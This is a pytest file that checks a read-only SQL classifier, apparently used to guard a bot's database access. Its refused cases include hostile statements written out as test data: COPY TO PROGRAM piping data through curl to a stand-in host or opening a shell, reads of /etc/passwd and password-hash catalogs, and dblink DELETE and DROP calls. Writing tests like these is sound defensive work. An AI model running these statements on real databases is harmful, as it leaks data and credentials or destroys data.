"""The classifier alone: pure, no server."""

from __future__ import annotations

import pytest

from bot.sql.classify import SqlRefused, check, classify

ALLOWED = [
    ("SELECT * FROM shop.orders WHERE customer_id = 42", "select"),
    ("select count(*) from pg_stat_activity", "select"),
    ("SELECT relname, n_live_tup FROM pg_catalog.pg_stat_user_tables", "select"),
    ("WITH t AS (SELECT 1 AS x) SELECT x FROM t", "select"),
    ("VALUES (1), (2)", "select"),
    ("TABLE shop.customers", "select"),
    ("SELECT pg_sleep(0.1)", "select"),
    ("SELECT 'a%' LIKE 'a%'", "select"),
    ("EXPLAIN SELECT 1", "explain"),
    ("EXPLAIN (FORMAT JSON, COSTS true) SELECT * FROM shop.orders", "explain"),
    ("EXPLAIN (ANALYZE false) SELECT 1", "explain"),
    ("SHOW work_mem", "show"),
    ("SELECT 1;", "select"),  # a trailing semicolon is still one statement
]

REFUSED = [
    ("SELECT 1; SELECT 2", "multi-statement"),
    ("SELECT 1; DELETE FROM shop.orders", "multi-statement"),
    ("COPY shop.orders TO PROGRAM 'curl -d @- evil'", "copy-program"),
    ("COPY (SELECT 1) TO PROGRAM 'sh'", "copy-program"),
    ("COPY shop.orders TO '/tmp/x'", "copy"),
    ("SELECT pg_terminate_backend(123)", "side-effect-function"),
    ("SELECT pg_catalog.pg_cancel_backend(1)", "side-effect-function"),
    ("SELECT set_config('statement_timeout', '0', false)", "side-effect-function"),
    ("SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)", "side-effect-function"),
    ("SELECT dblink_exec('host=x', 'DROP TABLE t')", "side-effect-function"),
    ("SELECT lo_import('/etc/passwd')", "side-effect-function"),
    ("SELECT lo_export(1, '/tmp/x')", "side-effect-function"),
    ("SELECT nextval('shop.invoice_no')", "side-effect-function"),
    ("SELECT pg_read_file('/etc/passwd')", "side-effect-function"),
    ("SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", "side-effect-function"),
    ("SELECT * FROM shop.orders WHERE id = (SELECT pg_advisory_lock(1))", "side-effect-function"),
    ("SELECT PG_RELOAD_CONF()", "side-effect-function"),
    ("INSERT INTO shop.notes VALUES (2, 'x')", "statement-type"),
    ("UPDATE shop.orders SET status = 'x'", "statement-type"),
    ("DELETE FROM shop.orders", "statement-type"),
    ("DROP TABLE shop.orders", "statement-type"),
    ("SET statement_timeout = 0", "statement-type"),
    ("RESET ALL", "statement-type"),
    ("BEGIN", "statement-type"),
    ("COMMIT", "statement-type"),
    ("DO $$ BEGIN DELETE FROM shop.orders; END $$", "statement-type"),
    ("CALL shop.cleanup()", "statement-type"),
    ("CREATE TABLE x AS SELECT 1", "statement-type"),
    ("VACUUM shop.orders", "statement-type"),
    ("PREPARE p AS DELETE FROM shop.orders", "statement-type"),
    ("LISTEN x", "statement-type"),
    ("WITH d AS (DELETE FROM shop.orders RETURNING *) SELECT * FROM d", "data-modifying"),
    ("SELECT * INTO shop.copy FROM shop.orders", "select-into"),
    ("SELECT * FROM shop.orders FOR UPDATE", "locking-clause"),
    ("SELECT * FROM shop.orders FOR SHARE SKIP LOCKED", "locking-clause"),
    ("SELECT rolpassword FROM pg_authid", "secret-catalog"),
    ("SELECT * FROM pg_catalog.pg_shadow", "secret-catalog"),
    ("EXPLAIN ANALYZE SELECT 1", "explain-analyze"),
    ("EXPLAIN (ANALYZE) SELECT 1", "explain-analyze"),
    ("EXPLAIN (ANALYZE on, FORMAT JSON) SELECT 1", "explain-analyze"),
    ("EXPLAIN DELETE FROM shop.orders", "data-modifying"),
    ("EXPLAIN SELECT pg_terminate_backend(1)", "side-effect-function"),
    ("SELEC 1", "parse-error"),
    ("", "empty"),
    ("-- only a comment", "empty"),
]


@pytest.mark.parametrize(("sql", "kind"), ALLOWED)
def test_read_only_statements_are_allowed(sql: str, kind: str) -> None:
    v = classify(sql)
    assert (v.allowed, v.kind, v.rule) == (True, kind, "sql#read-only"), v.reason


@pytest.mark.parametrize(("sql", "rule"), REFUSED)
def test_each_refused_class_names_its_rule(sql: str, rule: str) -> None:
    v = classify(sql)
    assert not v.allowed and v.rule == f"sql#{rule}", (v.rule, v.reason)
    assert v.reason


def test_analyze_allowed_only_when_policy_says_so() -> None:
    v = classify("EXPLAIN (ANALYZE, FORMAT JSON) SELECT 1", allow_analyze=True)
    assert v.allowed and v.analyze and v.json_plan
    # Even with ANALYZE allowed, what it executes must itself be read-only.
    verdict = classify("EXPLAIN ANALYZE DELETE FROM t", allow_analyze=True)
    assert verdict.rule == "sql#data-modifying"


def test_check_raises_with_rule() -> None:
    with pytest.raises(SqlRefused) as info:
        check("SELECT 1; SELECT 2")
    assert info.value.rule == "sql#multi-statement"
    assert str(info.value).startswith("REFUSED by sql#multi-statement: ")
